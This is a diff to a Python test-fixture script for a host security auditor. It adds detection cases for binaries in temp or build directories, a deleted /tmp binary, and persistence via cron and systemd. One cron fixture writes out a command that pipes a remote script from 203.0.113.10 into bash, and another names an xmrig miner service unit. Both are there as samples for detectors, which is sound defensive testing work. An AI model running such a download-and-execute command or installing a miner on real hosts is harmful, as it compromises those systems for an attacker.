@@ -466,6 +466,9 @@ write(C, "exe-in-temp-or-dot-dir", "pass", "pass", "clean host", host())
 write(C, "exe-in-temp-or-dot-dir", "pass-go-build", "pass", "go test binary under /tmp/go-build",
       host(add_proc(proc(4700, 4690, "app.test", ["/tmp/go-build123456/b001/app.test"],
                          exe="/tmp/go-build123456/b001/app.test", uid=1000))))
+write(C, "exe-in-temp-or-dot-dir", "pass-build-dir", "pass", "a SwiftPM build product in a checkout",
+      host(add_proc(proc(4702, 4690, "hostaudit", [".build/debug/hostaudit"],
+                         exe="/home/dev/src/hostaudit/.build/x86_64-unknown-linux-gnu/debug/hostaudit", uid=1000))))
 write(C, "exe-in-temp-or-dot-dir", "fail", "fail", "a binary under /dev/shm",
       host(add_proc(proc(4800, 1, "upd", ["/dev/shm/upd"], exe="/dev/shm/upd", uid=33))))
 write(C, "exe-in-temp-or-dot-dir", "fail-dot-dir", "fail", "a binary in a hidden directory",
@@ -619,3 +622,26 @@ def aegis(running):
 
 write(C, "cloud-agent-not-running", "pass", "pass", "Aegis installed and running", host(aegis(True)))
 write(C, "cloud-agent-not-running", "fail", "fail", "Aegis installed, processes gone", host(aegis(False)))
+
+
+def cron_script(d):
+    f = d["persistence"]["cron"]["files"][0]
+    f["script_lines"].append({"line": 4, "text": "wget -q -O- http://203.0.113.10/x.sh | bash",
+                              "indicators": [{"indicator": "download-pipe-shell",
+                                              "match": "wget -q -O- http://203.0.113.10/x.sh | bash"}]})
+
+
+def miner_unit(d):
+    unit_temp(d)
+    u = d["persistence"]["systemd"]["units"][-1]
+    u["execs"][0].update({"program": "/usr/local/bin/xmrig", "command_line": "/usr/local/bin/xmrig",
+                          "program_location": "system", "indicators": []})
+    u["name"] = "xmrig.service"
+    u["indicators"] = [{"indicator": "known-miner-unit-name", "match": "xmrig.service"}]
+
+
+write(C, "cron-download-and-run", "fail-script", "fail", "a cron.hourly script that pipes wget into bash",
+      host(cron_script))
+write(C, "systemd-unit-exec-from-temp", "fail-miner-unit", "fail", "an xmrig.service unit", host(miner_unit))
+write(C, "exe-deleted", "fail-tmp", "fail", "a deleted binary that ran from /tmp",
+      host(add_proc(proc(4501, 1, "x", ["./x"], exe="/tmp/x", deleted=True, uid=33))))
